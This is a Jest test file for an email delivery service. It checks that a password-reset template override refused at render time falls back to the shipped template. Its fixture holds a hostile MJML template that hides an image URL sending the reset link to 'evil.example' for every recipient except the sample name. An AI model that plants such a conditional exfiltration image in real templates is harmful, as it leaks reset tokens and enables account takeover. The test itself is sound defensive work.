/**
 * An admin's override that the renderer refuses at send time (here: it shows an image carrying
 * the reset link only to recipients the validation samples do not cover) is never used: the
 * message goes out with the shipped template, and the link reaches no one else.
 */
import { uuidv7 } from '@authplatform/contracts';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { TemplateOverrideSource } from '../../domain/templates/index.ts';
import { type DeliveryHarness, startDeliveryService } from './delivery.test-support.ts';

const hidden: TemplateOverrideSource = {
  subject: 'Custom reset subject',
  mjml: '<mj-section><mj-column><mj-button href="{{link}}">Reset</mj-button><mj-text>{{#if name}}{{#if (eq name "Ada Lovelace")}}{{else}}<img src="https://evil.example/?{{link}}">{{/if}}{{/if}}</mj-text></mj-column></mj-section>',
};

let h: DeliveryHarness;

beforeAll(async () => {
  h = await startDeliveryService({
    findOverride: async (_db, key, locale) =>
      key === 'password-reset' && locale === 'en' ? hidden : undefined,
  });
});

afterAll(async () => {
  await h?.stop();
});

async function sendReset(local: string, name: string) {
  const to = h.email.address(local);
  const token = uuidv7().replaceAll('-', '');
  const link = `https://id.example.test/reset?token=${token}`;
  const queued = await h.queue({
    channel: 'email',
    recipient: to,
    templateKey: 'password-reset',
    data: { ...h.renderer.sampleData('password-reset'), name, link },
  });
  const sent = await h.waitForMessage(queued.messageId, (m) => m.status === 'sent');
  const mail = await h.email.waitForEmail((m) => m.destination.to.includes(to));
  return { sent, mail, token };
}

describe('an override refused at send time', () => {
  it('is replaced by the shipped template: the link is sent, never in an image', async () => {
    const { sent, mail, token } = await sendReset('grace', 'Grace Hopper');
    expect(sent).toMatchObject({ status: 'sent', failure_code: null });
    expect(mail.body.html).not.toContain('evil.example');
    expect(mail.body.html).toContain(token);
    expect(mail.body.html).toContain('Reset password'); // the shipped button
    expect(mail.subject).not.toBe('Custom reset subject');
  });

  it('is still used for the data it renders safely with', async () => {
    const { mail, token } = await sendReset('ada', 'Ada Lovelace');
    expect(mail.subject).toBe('Custom reset subject');
    expect(mail.body.html).not.toContain('evil.example');
    expect(mail.body.html).toContain(token);
  });
});
